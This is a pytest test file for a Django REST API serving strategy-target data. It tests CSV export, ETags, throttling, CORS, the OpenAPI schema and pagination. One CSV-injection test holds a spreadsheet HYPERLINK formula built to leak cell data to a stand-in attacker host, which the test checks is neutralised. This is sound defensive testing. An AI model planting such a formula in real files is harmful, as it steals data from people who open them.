"""The REST API's protocol: CSV downloads, conditional GET, throttling, CORS, the OpenAPI
document and its browsable reference, pagination limits and query budgets
(DESIGN.md, "REST API contract (v1)"; strategy/settings.py; strategy/site/api/)."""

import csv
import datetime
import io
import re
from decimal import Decimal

import jsonschema
import pytest
from django.conf import settings
from django.core.cache import caches
from django.core.management import call_command
from django.utils import timezone
from rest_framework.authtoken.models import Token

from targets.models import Observation, PublishedAssessment, Target
from tests.site.api_resources import API_RESOURCES

STATUSES = ["on_track", "at_risk", "off_track", "met", "not_met", "not_assessed"]
SEED_OBSERVATIONS = 50
SLUG_DETAIL_PATHS = [
    "areas",
    "governance-bodies",
    "grand-challenges",
    "organisations",
    "propositions",
    "sector-deals",
    "strategies",
    "targets",
]


def publish_figures(target, count, start=datetime.date(1990, 1, 1), **fields):
    """`count` published figures for `target`, one a day from `start`, in one query."""
    now = timezone.now()
    return Observation.objects.bulk_create(
        Observation(
            target=target,
            period_end=start + datetime.timedelta(days=day),
            period_label=f"Day {day}",
            value=Decimal(800000 + day),
            comparator_value=Decimal(900000) if target.needs_comparator else None,
            source="A bulk test release",
            state=Observation.State.PUBLISHED,
            published_at=now,
            **fields,
        )
        for day in range(count)
    )


def publish(target, period_end, **fields):
    values = {
        "target": target,
        "period_end": period_end,
        "period_label": str(period_end),
        "value": Decimal(870000),
        "source": "A test release",
        "state": Observation.State.PUBLISHED,
        "published_at": timezone.now(),
    }
    values.update(fields)
    return Observation.objects.create(**values)


def read_csv(response):
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def jobs(seed):
    return Target.objects.get(slug="jobs")


# CSV


def test_a_csv_list_has_crlf_line_ends_one_header_and_one_row_per_record(client, seed):
    response = client.get("/api/v1/observations/?format=csv")

    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    # Written again the RFC 4180 way (CRLF after every record, quotes only where needed,
    # a line break inside a quoted notes cell kept as it is), the text is unchanged.
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n").writerows(rows)
    assert text == again.getvalue()
    assert text.endswith("\r\n")
    header, records = rows[0], rows[1:]
    assert header[:5] == ["id", "target", "area", "period_end", "period_label"]
    assert len(records) == SEED_OBSERVATIONS
    assert {len(row) for row in records} == {len(header)}
    assert header.count("id") == 1


def test_a_csv_list_is_an_attachment_named_after_the_resource(client, seed):
    response = client.get("/api/v1/observations/?format=csv")

    assert response["Content-Disposition"] == 'attachment; filename="observations.csv"'


@pytest.mark.parametrize("path", API_RESOURCES)
def test_every_list_answers_csv_with_a_csv_attachment(client, seed, path):
    response = client.get(f"/api/v1/{path}/?format=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert re.fullmatch(r'attachment; filename="[a-z-]+\.csv"', response["Content-Disposition"])
    rows = read_csv(response)
    assert len(rows) - 1 == client.get(f"/api/v1/{path}/?page_size=1000").json()["count"]


def test_a_csv_list_has_every_row_not_a_page(client, jobs):
    publish_figures(jobs, 150)

    rows = read_csv(client.get("/api/v1/observations/?format=csv&page_size=10"))

    assert len(rows) == 1 + SEED_OBSERVATIONS + 150


def test_a_csv_list_applies_the_same_filters(client, seed):
    rows = read_csv(client.get("/api/v1/observations/?format=csv&target=gva-per-hour-worked"))

    header, records = rows[0], rows[1:]
    assert [row[header.index("period_label")] for row in records] == [
        str(year) for year in range(2014, 2023)
    ]
    assert {row[header.index("target")] for row in records} == {"gva-per-hour-worked"}


def test_the_csv_flags_provisional_and_revised_figures_in_their_own_columns(client, jobs):
    publish(jobs, datetime.date(2021, 3, 31), provisional=True, revised=True)

    rows = read_csv(client.get("/api/v1/observations/?format=csv&target=jobs"))

    header = rows[0]
    flags = [(row[header.index("provisional")], row[header.index("revised")]) for row in rows[1:]]
    assert flags == [("false", "false")] * 3 + [("true", "true")]


@pytest.mark.parametrize(
    "notes",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A2)",
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, jobs, notes):
    publish(jobs, datetime.date(2021, 3, 31), notes=notes)

    rows = read_csv(
        client.get("/api/v1/observations/?format=csv&target=jobs&period_after=2021-01-01")
    )

    header, (record,) = rows[0], rows[1:]
    assert record[header.index("notes")] == "'" + notes


def test_a_negative_figure_stays_a_plain_number_in_csv(client, seed):
    url = "/api/v1/assessments/?format=csv&target=economic-activity-rate"
    rows = read_csv(client.get(url))

    header = rows[0]
    figures = [row[header.index("figure")] for row in rows[1:]]
    assert figures == ["0.15", "", "", "-0.4"]


def test_the_target_csv_has_negative_progress_as_plain_numbers(client, seed):
    rows = read_csv(client.get("/api/v1/targets/?format=csv&kind=reduce_gap"))

    header = rows[0]
    progress = [row[header.index("progress")] for row in rows[1:]]
    assert progress == ["-1.3205", "-0.28", "0.2006"]


def test_the_target_csv_carries_the_baseline_and_the_latest_figure(client, seed):
    rows = read_csv(client.get("/api/v1/targets/?format=csv&strategy=north-east-sep"))

    header, jobs = rows[0], rows[1]
    assert jobs[header.index("slug")] == "jobs"
    assert jobs[header.index("baseline.value")] == "811300.0"
    assert jobs[header.index("latest.figure")] == "82900.0"


def test_a_bad_filter_on_a_csv_download_answers_with_a_json_error_naming_it(client, seed):
    response = client.get("/api/v1/targets/?format=csv&status=doing_fine")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == ["status"]


# Never a server error


@pytest.mark.parametrize("path", SLUG_DETAIL_PATHS)
def test_a_slug_with_a_nul_character_is_404_not_a_server_error(client, db, path):
    client.raise_request_exception = False

    response = client.get(f"/api/v1/{path}/jobs%00/")

    assert response.status_code == 404


# Conditional GET


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/targets/",
        "/api/v1/targets/jobs/",
        "/api/v1/observations/",
        "/api/v1/observations/?target=jobs",
        "/api/v1/assessments/",
        "/api/v1/observations/?format=csv",
    ],
)
def test_a_partner_who_has_the_response_gets_304_and_200_again_after_a_change(client, jobs, url):
    first = client.get(url)
    etag = first["ETag"]

    assert first.status_code == 200
    assert etag
    again = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    assert again.content == b""

    publish(jobs, datetime.date(2021, 3, 31))
    PublishedAssessment.objects.filter(target=jobs).update(judgement="changed")
    # The list shows each target's verdict, which the jobs figure leaves as it was (the
    # outcome is held): a figure that decides a target changes it.
    gva = Target.objects.get(slug="gva-per-hour-worked")
    publish(gva, datetime.date(2024, 12, 31), value=Decimal(40), comparator_value=Decimal(41))

    changed = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200
    assert changed["ETag"] != etag


def test_an_observation_detail_answers_304_until_it_changes(client, seed):
    figure = Observation.objects.get(target__slug="jobs", period_end=datetime.date(2019, 9, 30))
    url = f"/api/v1/observations/{figure.pk}/"
    etag = client.get(url)["ETag"]

    assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304
    figure.notes = "Checked against Nomis"
    figure.save()
    assert client.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 200


# Throttling


@pytest.fixture
def anon_rate_3_per_minute(monkeypatch):
    # DRF reads its rates once, when rest_framework.throttling is imported; the settings
    # fixture cannot reach them, so the class attribute is patched.
    monkeypatch.setattr(
        "rest_framework.throttling.AnonRateThrottle.THROTTLE_RATES", {"anon": "3/minute"}
    )


@pytest.mark.usefixtures("anon_rate_3_per_minute")
def test_the_fourth_anonymous_request_in_a_minute_is_429_with_retry_after(client, db):
    statuses = [client.get("/api/v1/targets/").status_code for _ in range(3)]
    fourth = client.get("/api/v1/targets/")

    assert statuses == [200, 200, 200]
    assert fourth.status_code == 429
    assert 0 < int(fourth["Retry-After"]) <= 60
    assert "throttled" in fourth.json()["detail"].lower()


@pytest.mark.usefixtures("anon_rate_3_per_minute")
def test_the_throttle_counts_all_anonymous_reads_of_the_api_together(client, db):
    for path in ("targets", "observations", "assessments"):
        assert client.get(f"/api/v1/{path}/").status_code == 200

    assert client.get("/api/v1/strategies/").status_code == 429


@pytest.mark.usefixtures("anon_rate_3_per_minute")
def test_an_authenticated_user_is_not_throttled(client, officer):
    token = Token.objects.create(user=officer)

    statuses = {
        client.get("/api/v1/targets/", HTTP_AUTHORIZATION=f"Token {token.key}").status_code
        for _ in range(10)
    }

    assert statuses == {200}


def test_the_default_anonymous_rate_comes_from_api_anon_rate():
    from rest_framework.throttling import AnonRateThrottle

    assert AnonRateThrottle().rate == settings.API_ANON_RATE


# CORS


def test_the_api_may_be_read_from_any_origin(client, db):
    response = client.get("/api/v1/targets/", HTTP_ORIGIN="https://partner.example")

    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response


def test_the_admin_sends_no_cors_headers(client, db):
    response = client.get("/admin/login/", HTTP_ORIGIN="https://partner.example")

    assert response.status_code == 200
    assert "Access-Control-Allow-Origin" not in response


def test_a_cors_preflight_for_post_does_not_allow_post(client, db):
    response = client.options(
        "/api/v1/observations/",
        HTTP_ORIGIN="https://partner.example",
        HTTP_ACCESS_CONTROL_REQUEST_METHOD="POST",
    )

    allowed = {m.strip() for m in response["Access-Control-Allow-Methods"].split(",")}
    assert allowed == {"GET", "HEAD", "OPTIONS"}
    assert "POST" not in allowed


# The OpenAPI document


def test_the_schema_is_an_openapi_3_document(openapi):
    assert openapi["openapi"].startswith("3")
    assert openapi["info"]["title"] == "Strategy tracker API"


def test_each_resource_is_described_by_its_own_words_not_the_sites_plumbing(openapi):
    """The resource's own description, for partners; never a docstring of the site's
    caching or of DRF's generic viewsets, which a viewset would otherwise inherit."""
    descriptions = {}
    for path, operations in openapi["paths"].items():
        for method, operation in operations.items():
            descriptions[f"{method.upper()} {path}"] = operation.get("description", "")

    plumbing = [
        name
        for name, text in descriptions.items()
        if not text or "kept public responses" in text or "A viewset that provides" in text
    ]
    assert plumbing == []
    targets = descriptions["GET /api/v1/targets/"]
    assert targets.startswith("A strategy's targets, each with where it stands today")
    assert descriptions["GET /api/v1/observations/{id}/"].startswith(
        "The figures behind the targets"
    )


def test_the_schema_has_every_path_of_the_contract(openapi):
    expected = {f"/api/v1/{path}/" for path in API_RESOURCES}
    expected |= {"/api/v1/targets/{slug}/", "/api/v1/propositions/{slug}/"}

    assert expected <= set(openapi["paths"]), expected - set(openapi["paths"])


def test_the_schema_lists_exactly_the_six_statuses(openapi):
    status = openapi["components"]["schemas"]["Target"]["properties"]["status"]
    ref = status["allOf"][0]["$ref"] if "allOf" in status else status["$ref"]
    enum = openapi["components"]["schemas"][ref.rsplit("/", 1)[1]]["enum"]

    assert enum == STATUSES


def test_the_schema_offers_the_target_filters_of_the_contract(openapi):
    parameters = openapi["paths"]["/api/v1/targets/"]["get"]["parameters"]
    names = {p["name"] for p in parameters}

    assert {"strategy", "status", "kind", "page", "page_size"} <= names
    (status,) = [p for p in parameters if p["name"] == "status"]
    assert sorted(status["schema"]["enum"]) == sorted(STATUSES)


def test_the_schema_allows_null_progress_as_the_api_answers(openapi):
    for component in ("Target", "TargetDetail"):
        properties = openapi["components"]["schemas"][component]["properties"]
        for field in ("progress", "expected_progress", "projected_progress"):
            assert properties[field].get("nullable") is True, (component, field)


def test_the_schema_declares_every_figure_of_a_targets_baseline_and_latest_record(openapi):
    schemas = openapi["components"]["schemas"]

    assert {"value", "comparator_value", "subset_value", "gap"} <= set(
        schemas["Baseline"]["properties"]
    )
    assert {"value", "comparator_value", "subset_value", "figure", "progress"} <= set(
        schemas["LatestRecord"]["properties"]
    )


def test_the_schema_explains_progress_as_a_fraction(openapi):
    properties = openapi["components"]["schemas"]["Target"]["properties"]

    for field in ("progress", "expected_progress", "projected_progress"):
        assert "0.5" in properties[field]["description"], field


def test_the_schema_offers_null_beside_a_nullable_reference(openapi):
    """OpenAPI 3.0's `nullable` widens only a `type` beside it, not a `$ref`."""
    baseline = openapi["components"]["schemas"]["Target"]["properties"]["baseline"]

    assert {"$ref": "#/components/schemas/NullEnum"} in baseline["oneOf"]
    assert openapi["components"]["schemas"]["NullEnum"] == {"enum": [None]}


def test_the_schema_describes_what_the_api_returns_for_partners_not_for_the_admin(openapi):
    """The models' help texts tell officers what to tick or leave blank in the admin."""
    admin_words = ("Tick", "Leave blank", "Used in web addresses")
    found = [
        f"{name}.{field}"
        for name, component in openapi["components"]["schemas"].items()
        if not name.endswith("Request")
        for field, schema in component.get("properties", {}).items()
        if any(words in schema.get("description", "") for words in admin_words)
    ]

    assert found == []


def test_every_field_the_api_returns_is_described_in_the_schema(openapi):
    undescribed = [
        f"{name}.{field}"
        for name, component in openapi["components"]["schemas"].items()
        if not name.endswith("Request")
        for field, schema in component.get("properties", {}).items()
        if not schema.get("description", "").strip()
    ]

    assert undescribed == []


def test_the_schema_says_anyone_may_read(openapi):
    """Swagger UI shows no padlock on an operation whose security allows no credentials."""
    gets = [
        (path, operations["get"])
        for path, operations in openapi["paths"].items()
        if "get" in operations
    ]

    # Each resource's list and record, and the bulk download.
    assert len(gets) == 2 * len(API_RESOURCES) + 1
    for path, operation in gets:
        assert {} in operation["security"], path


def test_the_schema_declares_csv_answers_as_csv_text_beside_json(openapi):
    for path in API_RESOURCES:
        content = openapi["paths"][f"/api/v1/{path}/"]["get"]["responses"]["200"]["content"]
        assert set(content) == {"application/json", "text/csv"}, path
        assert content["text/csv"]["schema"]["type"] == "string", path


def test_the_schema_types_boolean_filters_as_booleans(openapi):
    parameters = openapi["paths"]["/api/v1/observations/"]["get"]["parameters"]
    booleans = {
        p["name"]: p["schema"] for p in parameters if p["name"] in {"provisional", "revised"}
    }

    assert booleans == {"provisional": {"type": "boolean"}, "revised": {"type": "boolean"}}


def test_a_malformed_body_answers_400_as_the_schema_documents(client, officer, openapi):
    documented = openapi["paths"]["/api/v1/observations/"]["post"]["responses"]["400"]
    client.force_login(officer)

    response = client.post("/api/v1/observations/", "{", content_type="application/json")

    assert response.status_code == 400
    jsonschema.validate(response.json(), documented["content"]["application/json"]["schema"])


def test_a_slug_with_a_dot_answers_a_json_404(client, db):
    response = client.get("/api/v1/targets/jobs.2024-final/")

    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"


def test_a_search_of_many_terms_is_a_400_saying_the_limit_not_a_server_error(client, db):
    response = client.get("/api/v1/propositions/", {"search": " ".join(["a"] * 1000)})

    assert response.status_code == 400
    assert response.json() == {
        "search": ["Ensure this value has at most 200 characters."],
    }


def test_a_search_of_eleven_terms_is_a_400_saying_at_most_ten(client, db):
    response = client.get("/api/v1/propositions/", {"search": "a b c d e f g h i j k"})

    assert response.status_code == 400
    assert response.json() == {
        "search": ["Search must be at most 10 words or phrases (this has 11)."],
    }


def test_a_search_of_ten_terms_is_answered(client, db):
    assert client.get("/api/v1/propositions/", {"search": "a b c d e f g h i j"}).status_code == 200


@pytest.mark.parametrize("path", API_RESOURCES)
def test_a_query_value_over_200_characters_is_a_400_naming_the_parameter(client, db, path):
    response = client.get(f"/api/v1/{path}/", {"ordering": "x" * 201})

    assert response.status_code == 400
    assert response.json() == {"ordering": ["Ensure this value has at most 200 characters."]}


def test_a_search_with_a_nul_character_is_refused_naming_search(client, db):
    response = client.get("/api/v1/propositions/?search=a%00b")

    assert response.status_code == 400
    assert list(response.json()) == ["search"]


def test_the_schema_documents_the_401_a_read_with_a_wrong_token_gets(client, openapi):
    response = client.get("/api/v1/targets/", HTTP_AUTHORIZATION="Token wrong")

    assert response.status_code == 401
    assert "401" in openapi["paths"]["/api/v1/targets/"]["get"]["responses"]


def test_the_schema_says_writing_needs_authentication(openapi):
    security = openapi["paths"]["/api/v1/observations/"]["post"]["security"]

    assert {} not in security
    assert {"tokenAuth": []} in security


def test_the_schema_validates_without_warnings(tmp_path, db):
    call_command(
        "spectacular",
        "--validate",
        "--fail-on-warn",
        "--file",
        str(tmp_path / "schema.yaml"),
    )

    assert (tmp_path / "schema.yaml").read_text().startswith("openapi: 3")


def test_the_docs_render_with_our_own_assets_only(client, db):
    response = client.get("/api/docs/")

    assert response.status_code == 200
    html = response.content.decode()
    tags = re.findall(r"<(?:script|link)\b[^>]*>", html)
    urls = [url for tag in tags for url in re.findall(r'\b(?:src|href)\s*=\s*["\']([^"\']+)', tag)]
    assert urls, "the docs page loads no assets"
    for url in urls:
        # Swagger UI's set-up script comes from the docs view itself (the CSP allows no
        # inline script).
        assert url.startswith(("/static/", "/api/docs/?script")), url
    assert not re.search(r"<(?:script|link)\b[^>]*https?://", html)


def test_the_docs_point_at_our_schema(client, db):
    assert "/api/schema/" in client.get("/api/docs/", {"script": ""}).content.decode()


# Pagination


@pytest.fixture
def many_figures(make_target):
    target = make_target()
    publish_figures(target, 1005)
    return target


@pytest.mark.parametrize("page_size", [1000, 5000])
def test_a_page_holds_at_most_1000_records(client, many_figures, page_size):
    body = client.get(f"/api/v1/observations/?page_size={page_size}").json()

    assert body["count"] == 1005
    assert len(body["results"]) == 1000
    assert body["next"] is not None


def test_the_default_page_holds_100_records(client, many_figures):
    body = client.get("/api/v1/observations/").json()

    assert len(body["results"]) == 100
    assert "page=2" in body["next"]


def test_the_last_page_holds_the_rest(client, many_figures):
    body = client.get("/api/v1/observations/?page_size=1000&page=2").json()

    assert len(body["results"]) == 5
    assert body["next"] is None


def test_a_page_beyond_the_last_is_404(client, many_figures):
    response = client.get("/api/v1/observations/?page_size=1000&page=3")

    assert response.status_code == 404
    assert "detail" in response.json()


# Query budgets: the same number of queries whatever the number of figures


# the data version, count, targets with their strategy, comparator and record versions,
# their awaited releases, the comparators' parts and exclusions; then, for the standings
# not in the cache, those targets' published observations and assessments
TARGETS_BUDGET = 8
TARGETS_CACHED_BUDGET = 6
# the data version, count, observations with their target, and the history of the
# page's observations for their revisions (one query for the page)
OBSERVATIONS_BUDGET = 4


@pytest.mark.parametrize("figures", [10, 1000])
def test_the_target_list_costs_the_same_queries_whatever_the_figures(
    client, seed, figures, django_assert_max_num_queries
):
    publish_figures(Target.objects.get(slug="gva-per-hour-worked"), figures)

    with django_assert_max_num_queries(TARGETS_BUDGET):
        response = client.get("/api/v1/targets/")

    assert response.status_code == 200
    gva = [t for t in response.json()["results"] if t["slug"] == "gva-per-hour-worked"]
    assert gva[0]["status"] == "off_track"


def test_the_target_list_takes_unchanged_standings_from_the_cache(
    client, seed, django_assert_max_num_queries
):
    first = client.get("/api/v1/targets/").json()
    caches["responses"].clear()  # rendered afresh, from the standings kept

    with django_assert_max_num_queries(TARGETS_CACHED_BUDGET):
        again = client.get("/api/v1/targets/").json()

    assert again == first


@pytest.mark.parametrize("figures", [10, 1000])
def test_the_observation_list_costs_the_same_queries_whatever_the_figures(
    client, seed, figures, django_assert_max_num_queries
):
    publish_figures(Target.objects.get(slug="gva-per-hour-worked"), figures)

    with django_assert_max_num_queries(OBSERVATIONS_BUDGET):
        response = client.get("/api/v1/observations/?page_size=1000")

    assert response.status_code == 200
    assert len(response.json()["results"]) == min(SEED_OBSERVATIONS + figures, 1000)
